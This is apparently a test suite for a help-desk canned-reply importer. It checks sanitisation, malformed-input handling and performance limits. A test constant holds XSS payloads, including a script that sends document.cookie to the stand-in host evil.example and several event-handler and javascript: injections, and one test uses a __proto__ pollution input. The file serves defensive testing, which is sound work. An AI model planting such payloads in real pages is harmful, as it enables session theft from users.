import fc from 'fast-check'
import { expect, test } from 'vitest'
import { importFormats } from '../../../../shared/domain/library/import-report.ts'
import { MAX_BODY_LENGTH, ReplyPlacement } from '../../../../shared/domain/library/canned-reply.ts'
import { lossesOf, read } from './testing/read.ts'

const active =
  '<p onclick="steal()">Hi<script>fetch("https://evil.example?"+document.cookie)</script><style>p{}</style>' +
  '<iframe src="https://evil.example"></iframe><img src=x onerror=alert(1)><a href="javascript:alert(1)">click</a>' +
  '<svg onload=alert(1)><text>svg</text></svg></p>'

test.each<[string, unknown]>([
  ['chatwoot', [{ id: 1, name: 'M', actions: [{ action_name: 'send_message', action_params: [active] }] }]],
  ['zendesk', { macros: [{ id: 1, title: 'T', actions: [{ field: 'comment_value_html', value: active }] }] }],
  [
    'gorgias',
    {
      data: [
        {
          id: 1,
          name: 'T',
          uri: '/api/macros/1',
          actions: [{ name: 'setResponseText', arguments: { body_html: active } }]
        }
      ]
    }
  ],
  ['front', { _results: [{ id: 'rsp_1', name: 'T', subject: null, body: active }] }],
  ['missive', { responses: [{ id: '1', title: 'T', body: active, organization: 'o' }] }],
  ['help-scout', [{ id: 1, name: 'T', text: active }]],
  ['freescout', [{ id: 1, mailbox_id: 1, name: 'T', text: active }]],
  ['intercom', { data: [{ type: 'macro', id: '1', name: 'T', body: active }] }]
])('%s: nothing of a script, a style, a frame or a handler comes in as HTML', (format, value) => {
  const found = read({ 'x.json': value })
  expect(found.format).toBe(format)
  expect(found.replies).toHaveLength(1)
  const { body } = found.replies[0]?.content ?? { body: '' }
  expect(body).toContain('Hi')
  // Chatwoot's messages are Markdown: there HTML is text that customers would read, and nothing runs in either case.
  if (format === 'chatwoot') return
  expect(body).not.toMatch(/<|script|evil|alert|onerror|svg/u)
  expect(lossesOf(found).join(' ')).toMatch(/image: .*link-dropped: javascript:alert\(1\).*script: .*script/u)
})

test('Zammad and Mailspring: the same', () => {
  const csv = `id,name,keywords,content,note,active,groups\n1,T,t,"${active.replaceAll('"', '""')}",,true,\n`
  for (const found of [read({ 'z.csv': csv }), read({ 'T.html': active })]) {
    expect(found.replies[0]?.content.body).toMatch(/^Hi\s*click$/u)
    expect(lossesOf(found).join(' ')).toContain('script: ')
  }
})

test.each<[string, unknown]>([
  ['entries that are none', [null, 5, 'x', [], { short_code: 'ok', content: 'Hello', id: 1 }]],
  [
    'names of the prototype',
    [JSON.parse('{"__proto__":{"short_code":"x"},"constructor":1,"short_code":"ok","content":"Hello","id":{"a":1}}')]
  ],
  ['values of the wrong kind', [{ id: [], short_code: 5, content: 'Hello', updated_at: {} }]],
  [
    'a list in place of a text',
    { macros: [{ title: 'T', actions: [{ field: 'comment_value', value: [[['x']], 'Hello'] }] }] }
  ]
])('%s', (_name, value) => {
  const { replies } = read({ 'x.json': value })
  expect(replies).toHaveLength(1)
  expect(replies[0]?.content.body).toBe('Hello')
})

test('elements nested thirty thousand deep are cut, and the next reply comes in', () => {
  const deep = `Top${'<div>'.repeat(30_000)}bottom`
  const found = read({
    'f.json': {
      _results: [
        { id: 'rsp_1', name: 'Deep', subject: '', body: deep },
        { id: 'rsp_2', name: 'Next', subject: '', body: 'x' }
      ]
    }
  })
  expect(found.replies.map(({ content }) => content.body)).toEqual(['Top', 'x'])
  expect(lossesOf(found)).toEqual(['nested-too-deep'])
})

test.each([
  '**a ',
  '__ ',
  '`a ``b',
  '[',
  '![',
  '<https:',
  '[a](https:',
  '~~~\n',
  '{{ ',
  '{% if x %}',
  '{% if ',
  '#{',
  '{%a,fallback=',
  ' ',
  '_a ',
  '| ',
  'AA-'
])('a text of nothing but %j takes no longer than others', (piece) => {
  const text = piece.repeat(Math.floor(MAX_BODY_LENGTH / piece.length))
  const started = process.cpuUsage()
  read({ 'a.json': [{ id: 1, short_code: 'a', content: `${text}x` }] })
  read({ 'b.json': [{ id: 1, name: 'b', chatText: `${text}x` }] })
  read({ 'c.json': [{ type: 'macro', id: '1', name: 'c', body: `${text}x` }] })
  expect(process.cpuUsage(started).user / 1_000).toBeLessThan(5_000)
})

test('folders that lie in each other go round once', () => {
  const folders = [
    { id: 'rsf_1', name: 'A', parent_folder_id: 'rsf_2' },
    { id: 'rsf_2', name: 'B', parent_folder_id: 'rsf_1' }
  ]
  const found = read({
    'f.json': { _results: [{ id: 'rsp_1', name: 'T', subject: '', body: 'x', folder_id: 'rsf_1' }], folders }
  })
  expect(found.replies[0]?.placement.folder).toEqual(['B', 'A'])
})

test('what is too long or too much is cut or left out, each with its remark', () => {
  const macro = {
    id: 1,
    name: `${'long '.repeat(60)}end`,
    uri: '/api/macros/1',
    language: 'no language at all',
    actions: [
      { name: 'setResponseText', arguments: { body_text: 'x' } },
      { name: 'addTags', arguments: { tags: Array.from({ length: 50 }, (_, index) => `tag ${index}`) } }
    ]
  }
  const huge = {
    ...macro,
    id: 2,
    name: 'Huge',
    actions: [{ name: 'setResponseText', arguments: { body_text: 'x'.repeat(MAX_BODY_LENGTH + 1) } }]
  }
  const found = read({ 'g.json': [macro, huge] })
  expect(found.replies).toHaveLength(1)
  expect(found.replies[0]?.actions).toHaveLength(10)
  expect([...(found.replies[0]?.content.title ?? '')]).toHaveLength(120)
  expect(lossesOf(found).map((loss) => loss.split(':')[0])).toEqual([
    'language-unknown',
    'title-cut',
    'too-many-actions'
  ])
  expect(found.skipped).toMatchObject([{ code: 'too-long', reply: 'Huge' }])
})

const text = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.constantFrom(
    '<div>',
    '<attribute key="',
    '{{',
    '{%if%}',
    '#{a',
    '```',
    '<code>',
    '\uE000999\uE001',
    '\uE002',
    '\u0000',
    '\uD800',
    '"',
    '::',
    '%7B%25x%25%7D',
    ',',
    ';\n'
  )
)
const texts = fc.array(text, { maxLength: 8 }).map((parts) => parts.join(''))
const names = [
  'id',
  'short_code',
  'content',
  'name',
  'title',
  'actions',
  'action_name',
  'action_params',
  'field',
  'value',
  'body',
  'body_text',
  'text',
  'chatText',
  'macros',
  'data',
  '_results',
  'responses',
  'payload',
  'type',
  'subject',
  'folders',
  'language',
  'restriction',
  'arguments',
  'visible_to_team_ids',
  'available_on',
  'uri',
  '__proto__',
  '_embedded',
  'updated_at',
  'attachments',
  'organization'
]
const json = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: 'small' },
    texts,
    fc.integer(),
    fc.constantFrom(null, true, 'macro', 'comment_value', 'send_message', 'setResponseText', 'rsp_1'),
    tie('list'),
    tie('record')
  ),
  list: fc.array(tie('value'), { maxLength: 4 }),
  record: fc.dictionary(fc.constantFrom(...names), tie('value'), { maxKeys: 6 })
}))
const formats = fc.constantFrom(null, ...importFormats.filter((format) => format !== 'backchannel'))

test('a file of nothing but signs that cannot be seen holds no text', () => {
  const found = read({ 'a.json': Uint8Array.from([59, 1]) }, null)
  expect(found.replies).toEqual([])
  expect(found.skipped).toEqual([expect.objectContaining({ code: 'no-text' })])
})

test('whatever bytes a file has: each reader reads or reports, none throws, and what comes in fits', () => {
  const bytes = fc.oneof(
    fc.uint8Array({ maxLength: 300 }),
    json.list.map((value) => new TextEncoder().encode(JSON.stringify(value))),
    json.record.map((value) => new TextEncoder().encode(JSON.stringify(value))),
    texts.map((written) => new TextEncoder().encode(`title,body,actions,id\n${written}`))
  )
  fc.assert(
    fc.property(bytes, fc.constantFrom('a.json', 'a.csv', 'a.html'), formats, (content, name, format) => {
      const found = read({ [name]: content }, format)
      for (const reply of found.replies) {
        expect(ReplyPlacement.safeParse(reply.placement).error).toBeUndefined()
        expect(reply.content.title).not.toBe('')
      }
      expect(found.replies.length + found.skipped.length).toBeGreaterThan(0)
    }),
    { numRuns: 3_000 }
  )
})
